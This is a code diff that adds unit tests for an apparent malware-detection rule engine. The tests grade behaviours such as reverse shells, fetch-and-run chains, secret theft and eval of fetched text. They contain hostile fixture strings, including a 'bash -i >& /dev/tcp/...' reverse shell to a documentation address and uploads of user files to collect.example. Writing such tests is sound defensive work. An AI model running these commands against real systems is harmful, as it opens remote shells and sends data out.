@@ -275,6 +275,166 @@ class GradesTest {
         .isEqualTo(Confidence.MEDIUM);
   }
 
+  @Test
+  void aToolThatIsGivenWhatWasFetchedIsNotWhatWasFetched() {
+    Act written = act(Kind.WRITES_FILE, "…", Phase.CALL, Label.REMOTE);
+    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    Act build = act(Kind.SPAWNS, "docker build --file … .", Phase.CALL, Label.REMOTE);
+    Act unpack = act(Kind.SPAWNS, "powershell -command expand-archive …", Phase.CALL, Label.REMOTE);
+    Act both = act(Kind.SPAWNS, "acme build . && …", Phase.CALL, Label.REMOTE);
+    for (Act act : List.of(build, unpack)) {
+      assertThat(findings("dropped-and-run", fetch, written, act)).isEmpty();
+      assertThat(grade("remote-control", fetch, act)).isEqualTo(Confidence.LOW);
+    }
+    assertThat(grade("dropped-and-run", fetch, written, both)).isEqualTo(Confidence.MEDIUM);
+    assertThat(grade("remote-control", fetch, both)).isEqualTo(Confidence.MEDIUM);
+  }
+
+  @Test
+  void aProgramWithOptionsOfItsOwnIsNoCommandFromTheNetwork() {
+    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    assertThat(
+            grade(
+                "remote-control", fetch, act(Kind.SPAWNS, "… --port …", Phase.CALL, Label.REMOTE)))
+        .isEqualTo(Confidence.LOW);
+    assertThat(grade("remote-control", fetch, act(Kind.SPAWNS, "… -c …", Phase.CALL, Label.REMOTE)))
+        .isEqualTo(Confidence.MEDIUM);
+  }
+
+  @Test
+  void aKeyThatIsDecodedIntoAnAddressHidesNoHost() {
+    Act fetch = act(Kind.RECEIVES, "https://collect.example/?key=…", Phase.CALL, Label.DECODED);
+    assertThat(grade("hidden-behaviour", fetch)).isEqualTo(Confidence.HIGH);
+    assertThat(
+            grade(
+                "hidden-behaviour",
+                evident(fetch, "get(f'https://collect.example/?key={decrypt(KEY)}')")))
+        .isEqualTo(Confidence.LOW);
+  }
+
+  @Test
+  void aTokenIsAskedForWithTheSecretOfTheClient() {
+    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER);
+    assertThat(
+            grade(
+                "secret-parameter-theft",
+                evident(secret, "post(URL, data={'grant_type': 'refresh_token'})")))
+        .isEqualTo(Confidence.LOW);
+  }
+
+  @Test
+  void sourceCodeThatIsCarriedAlongOverPlainHttpIsNoTheft() {
+    String plain = "http://collect.example/in";
+    assertThat(grade("file-theft", act(Kind.SENDS, plain, Phase.CALL, Label.SOURCE_CODE)))
+        .isEqualTo(Confidence.LOW);
+    assertThat(grade("file-theft", act(Kind.SENDS, plain, Phase.CALL, Label.USER_FILES)))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void whoLooksWhetherTheNetworkIsThereAsksForNothing() {
+    assertThat(grade("bare-address", act(Kind.RECEIVES, "http://203.0.113.9", Phase.CALL)))
+        .isEqualTo(Confidence.LOW);
+    assertThat(grade("bare-address", act(Kind.RECEIVES, "http://203.0.113.9", Phase.IMPORT)))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aConnectionThatTellsOnesOwnAddressGoesNowhere() {
+    assertThat(grade("bare-address", act(Kind.SENDS, "203.0.113.9:53", Phase.CALL)))
+        .isEqualTo(Confidence.LOW);
+    assertThat(grade("bare-address", told(act(Kind.SENDS, "203.0.113.9:53", Phase.CALL), QUIETLY)))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aKeyAmongTheHeadersOfAQuestionIsHowServicesAreAsked() {
+    Act secret = act(Kind.SENDS, STRANGER, Phase.CALL, Label.SECRET_PARAMETER, Label.HOST_IDENTITY);
+    Act asks = evident(secret, "requests.get(URL, headers=headers)");
+    assertThat(grade("secret-parameter-theft", asks)).isEqualTo(Confidence.LOW);
+    assertThat(
+            grade(
+                "secret-parameter-theft",
+                evident(secret, "requests.get(URL, headers=headers, params=given)")))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aPortThatIsOnlyTriedIsNoShell() {
+    String tries = "bash -c 'echo > /dev/tcp/203.0.113.9/8000'";
+    assertThat(findings("reverse-shell", act(Kind.SPAWNS, tries, Phase.CALL))).isEmpty();
+    assertThat(
+            grade(
+                "reverse-shell",
+                act(Kind.SPAWNS, tries + " && bash -i >& /dev/tcp/203.0.113.9/1", Phase.CALL)))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aFetcherThatStoresWhatItFetchesRunsNothing() {
+    Act written = act(Kind.WRITES_FILE, "…", Phase.CALL, Label.REMOTE);
+    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    Act store = act(Kind.SPAWNS, "curl -o … …", Phase.CALL, Label.REMOTE);
+    assertThat(findings("dropped-and-run", fetch, written, store)).isEmpty();
+    Act run = act(Kind.SPAWNS, "curl -o … … && …", Phase.CALL, Label.REMOTE);
+    assertThat(grade("dropped-and-run", fetch, written, run)).isEqualTo(Confidence.MEDIUM);
+  }
+
+  @Test
+  void aModelOfAVendorIsFetchedAndRunInTheOpen() {
+    Act written = act(Kind.WRITES_FILE, "models/a.llamafile", Phase.CALL, Label.REMOTE);
+    Act run = act(Kind.SPAWNS, "models/a.llamafile --serve", Phase.CALL);
+    Act vendor = act(Kind.RECEIVES, "https://github.com/a/b/releases/download/c", Phase.CALL);
+    assertThat(grade("dropped-and-run", vendor, written, run)).isEqualTo(Confidence.MEDIUM);
+    Act stranger = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    assertThat(grade("dropped-and-run", stranger, written, run)).isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void anAnnotationIsResolvedAndNotDecoded() {
+    Act run = act(Kind.EXECUTES_TEXT, "", Phase.IMPORT, Label.DECODED);
+    assertThat(grade("decoded-execution", evident(run, "eval(expr, globalns, localns)")))
+        .isEqualTo(Confidence.LOW);
+    assertThat(grade("decoded-execution", evident(run, "eval(expr, globals())")))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aListThatIsReadByEvaluationIsCarelessness() {
+    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    Act run = told(act(Kind.EXECUTES_TEXT, "", Phase.CALL, Label.REMOTE), QUIETLY);
+    assertThat(grade("remote-execution", fetch, evident(run, "eval(text)")))
+        .isEqualTo(Confidence.MEDIUM);
+    assertThat(grade("remote-execution", fetch, evident(run, "exec(text)")))
+        .isEqualTo(Confidence.HIGH);
+  }
+
+  @Test
+  void aPingWaits() {
+    assertThat(grade("bare-address", act(Kind.RESOLVES, "203.0.113.9", Phase.CALL)))
+        .isEqualTo(Confidence.LOW);
+    assertThat(
+            grade(
+                "bare-address", act(Kind.RESOLVES, "203.0.113.9", Phase.CALL, Label.HOST_IDENTITY)))
+        .isEqualTo(Confidence.MEDIUM);
+  }
+
+  @Test
+  void whoAsksForThePasswordOfTheSystemSetsUpAService() {
+    Act fetch = act(Kind.RECEIVES, STRANGER, Phase.CALL);
+    Act service = act(Kind.PERSISTS, "/etc/systemd/system/a", Phase.CALL);
+    assertThat(grade("persistence", fetch, evident(service, "sudo ln -s a /etc/systemd/system/a")))
+        .isEqualTo(Confidence.LOW);
+  }
+
+  @Test
+  void aToolOfMediaIsLookedForAtImport() {
+    assertThat(findings("import-time-process", act(Kind.SPAWNS, "ffmpeg.exe", Phase.IMPORT)))
+        .isEmpty();
+    assertThat(grade("import-time-process", act(Kind.SPAWNS, "acme.exe", Phase.IMPORT)))
+        .isEqualTo(Confidence.HIGH);
+  }
+
   private static Confidence grade(String rule, Act... acts) {
     return findings(rule, acts).stream()
         .map(Finding::confidence)
